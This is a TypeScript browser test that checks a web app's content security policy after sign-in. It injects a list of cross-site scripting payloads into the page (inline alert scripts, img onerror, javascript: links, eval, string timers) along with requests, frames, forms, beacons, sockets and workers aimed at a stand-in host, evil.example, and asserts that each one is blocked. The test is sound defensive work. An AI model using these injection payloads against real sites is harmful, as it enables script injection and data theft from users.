import { expect } from 'vitest'
import { watch } from './testing/hostile.ts'
import { test as journey } from './testing/journey.ts'
import { eventually, signInToHome } from './testing/person.ts'

journey(
  'S-165: what runs in the page all the same is stopped by its content policy',
  async ({ newPerson }) => {
    const person = await newPerson()
    const { page } = person
    // The journey provokes violations of the policy.
    person.expectFault(/./)
    await signInToHome(person, 'A05302')
    const seen = await watch(person)
    const broken = await page.evaluate(async () => {
      const violations: string[] = []
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        violations.push(effectiveDirective),
      )
      const add = <K extends keyof HTMLElementTagNameMap>(
        tag: K,
        change: (node: HTMLElementTagNameMap[K]) => void,
      ) => {
        const node = document.createElement(tag)
        change(node)
        document.body.append(node)
        return node
      }
      const attempts: (() => unknown)[] = [
        () => add('script', (node) => node.append('alert(1)')),
        () => add('script', (node) => node.setAttribute('src', 'https://evil.example/x.js')),
        () => add('p', (node) => node.setAttribute('onclick', 'alert(1)')).click(),
        () => add('div', (node) => (node.innerHTML = '<img src=x onerror=alert(1)>')),
        () => add('a', (node) => (node.href = 'javascript:alert(1)')).click(),
        () => add('img', (node) => (node.src = 'https://evil.example/i.png')),
        () => add('iframe', (node) => (node.src = 'https://evil.example/f')),
        () =>
          add('link', (node) =>
            Object.assign(node, { rel: 'stylesheet', href: 'https://evil.example/a.css' }),
          ),
        () => add('style', (node) => node.append('body{display:none}')),
        () => add('base', (node) => (node.href = 'https://evil.example/')),
        () => add('object', (node) => (node.data = 'https://evil.example/o')),
        () => add('form', (node) => (node.action = 'https://evil.example/form')).submit(),
        () => fetch('https://evil.example/data'),
        () => navigator.sendBeacon('https://evil.example/beacon'),
        () => new WebSocket('wss://evil.example/'),
        () => new Worker('https://evil.example/w.js'),
        // The timer compiles this text after the evaluation, during which DevTools permits eval despite the policy.
        () => Reflect.apply(setTimeout, window, ['alert(1)', 0]),
        () =>
          new Promise((done) =>
            // biome-ignore lint/security/noGlobalEval: the policy has to block it
            setTimeout(() => done(Reflect.apply(globalThis.eval, window, ['alert(1)'])), 0),
          ),
      ]
      const unstopped: string[] = []
      for (const attempt of attempts) {
        const before = violations.length
        await Promise.race([
          Promise.resolve()
            .then(attempt)
            .catch(() => {}),
          new Promise((done) => setTimeout(done, 200)),
        ])
        const until = performance.now() + 5000
        while (violations.length === before && performance.now() < until)
          await new Promise((done) => setTimeout(done, 10))
        if (violations.length === before) unstopped.push(String(attempt))
      }
      return { unstopped, directives: [...new Set(violations)].sort() }
    })
    expect(broken.unstopped).toEqual([])
    expect(broken.directives).toEqual(
      expect.arrayContaining([
        'connect-src',
        'form-action',
        'frame-src',
        'img-src',
        'require-trusted-types-for',
      ]),
    )
    await eventually(() => page.evaluate(() => document.baseURI)).toContain(person.portal)
    expect(seen).toEqual([])
  },
)
